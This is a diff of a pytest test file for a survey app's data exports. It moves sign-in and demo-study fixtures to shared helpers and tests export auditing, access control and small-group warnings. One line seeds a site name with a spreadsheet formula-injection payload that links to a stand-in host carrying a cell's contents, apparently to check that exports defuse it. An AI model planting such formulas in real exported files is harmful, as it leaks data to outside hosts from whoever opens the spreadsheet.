@@ -11,8 +11,6 @@ import pyreadstat
 import pytest
 import sqlalchemy as sa
 
-from survey import accounts
-from survey.demo import create_demo
 from survey.exports.dataset import (
     LONG_COLUMNS,
     SUBMISSION_COLUMNS,
@@ -29,26 +27,21 @@ from survey.models import (
     AuditEvent,
     MissingCode,
     Participant,
-    Role,
     Round,
-    Site,
-    Study,
     Submission,
 )
 from survey.pseudonyms import research_id
+from tests.integration.conftest import COORDINATOR, EVALUATOR
 
 INJECTION = '=HYPERLINK("http://x/?"&A1)'
 
 
 @pytest.fixture
-def demo(app):
+def demo(demo):
     """The demo study with its seeded baseline, and a site whose name starts a formula."""
-    create_demo()
+    demo.sites[0].name = INJECTION
     db.session.commit()
-    study = db.session.scalar(sa.select(Study).where(Study.slug == "demo"))
-    study.sites[0].name = INJECTION
-    db.session.commit()
-    return study
+    return demo
 
 
 def baseline(study):
@@ -283,23 +276,8 @@ def test_every_export_is_audited(app, demo):
     )
 
 
-@pytest.fixture
-def evaluator_client(make_app, demo):
-    accounts.create_user("sara@example.org", Role.EVALUATOR, "a password long enough")
-    site = db.session.scalars(sa.select(Site)).first()
-    accounts.create_user("mette@example.org", Role.COORDINATOR, "a password long enough", site)
-    db.session.commit()
-
-    def sign_in(email):
-        client = make_app().test_client()
-        client.post("/admin/login", data={"email": email, "password": "a password long enough"})
-        return client
-
-    return sign_in
-
-
-def test_export_page_downloads_with_no_store_and_a_named_file(evaluator_client, demo):
-    client = evaluator_client("sara@example.org")
+def test_export_page_downloads_with_no_store_and_a_named_file(sign_in_as, demo):
+    client = sign_in_as(EVALUATOR)
     round_ = baseline(demo)
     assert client.get(f"/admin/exports/{demo.id}").status_code == 200
     response = client.post(
@@ -325,7 +303,7 @@ def test_export_page_downloads_with_no_store_and_a_named_file(evaluator_client, 
     assert events[-1].actor_user_id is not None
 
 
-def test_export_page_warns_about_small_groups(evaluator_client, demo):
+def test_export_page_warns_about_small_groups(sign_in_as, demo):
     study_id = demo.id
     follow_up = next(r for r in demo.rounds if r.name == "follow-up")
     data = {
@@ -335,7 +313,7 @@ def test_export_page_warns_about_small_groups(evaluator_client, demo):
         "instrument": "",
         "export_format": "csv-long",
     }
-    client = evaluator_client("sara@example.org")
+    client = sign_in_as(EVALUATOR)
     response = client.post(f"/admin/exports/{study_id}", data=data)
     assert response.status_code == 422
     assert "færre end 5" in response.get_data(as_text=True)
@@ -353,8 +331,8 @@ def test_export_page_warns_about_small_groups(evaluator_client, demo):
     assert response.get_data(as_text=True).startswith("\ufeffresearch_id,")
 
 
-def test_coordinators_and_anonymous_visitors_cannot_export(evaluator_client, demo, client):
-    coordinator = evaluator_client("mette@example.org")
+def test_coordinators_and_anonymous_visitors_cannot_export(sign_in_as, demo, client):
+    coordinator = sign_in_as(COORDINATOR)
     assert coordinator.get(f"/admin/exports/{demo.id}").status_code == 403
     assert (
         coordinator.post(
